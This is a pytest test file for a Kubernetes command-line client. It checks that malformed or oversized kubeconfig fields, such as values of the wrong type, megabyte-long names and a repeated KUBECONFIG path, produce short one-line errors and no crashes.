@pytest.mark.deep
@pytest.mark.parametrize(
    "user",
    [
        {"token": "t0ken", "client-certificate-data": "eA==", "client-key-data": "eA=="},
        {"tokenFile": "/etc/hostname", "client-certificate": "/etc/hostname"},
        {"exec": {"apiVersion": "v1", "command": "/bin/true", "args": ["a"], "env": []}},
    ],
    ids=["token", "files", "exec"],
)
def test_any_field_of_the_wrong_type_is_a_kubeconfig_error(
    tmp_path: Path, user: dict[str, object]
) -> None:
    """Each field of a kubeconfig replaced, in turn, by values of every other YAML type: a
    KubeconfigError (one line) or a connection, never another exception."""
    config = kubeconfig(f"https://127.0.0.1:{closed_port()}", user)
    clusters = config["clusters"]
    assert isinstance(clusters, list)
    clusters[0]["cluster"].update(
        {
            "proxy-url": f"http://127.0.0.1:{closed_port()}",
            "tls-server-name": "prod.example",
            "insecure-skip-tls-verify": False,
            "extensions": [{"name": "client.authentication.k8s.io/exec", "extension": {}}],
        }
    )
    path = tmp_path / "config"
    for at in list(every_field(config)):
        for wrong in WRONG_TYPES:
            changed = copy.deepcopy(config)
            holder: Any = changed
            for step in at[:-1]:
                holder = holder[step]
            holder[at[-1]] = wrong
            path.write_text(yaml.safe_dump(changed))
            try:
                ClusterClient.connect(kubeconfig=str(path)).close()
            except KubeconfigError as exc:
                assert "\n" not in str(exc), (at, wrong)


def test_a_megabyte_name_or_server_is_a_line_not_a_megabyte(tmp_path: Path) -> None:
    port = closed_port()
    config = kubeconfig(f"https://127.0.0.1:{port}/{'a' * MiB}", {"token": "t0ken"})
    contexts = config["contexts"]
    assert isinstance(contexts, list)
    contexts.append({"name": "b" * MiB, "context": {"cluster": "prod"}})
    path = tmp_path / "config"
    path.write_text(yaml.safe_dump(config))
    for args in (("nodes",), ("--context", "c" * 100_000, "nodes")):
        err = one_line_error(mignurse("--kubeconfig", str(path), *args, timeout=60))
        assert len(err) < 2000
    # $KUBECONFIG naming one file a thousand times reads it once
    env = {"KUBECONFIG": os.pathsep.join([str(path)] * 1000)}
    err = one_line_error(mignurse("nodes", env=env, timeout=60))
    assert f"cannot reach the Kubernetes API at https://127.0.0.1:{port}/aaa" in err
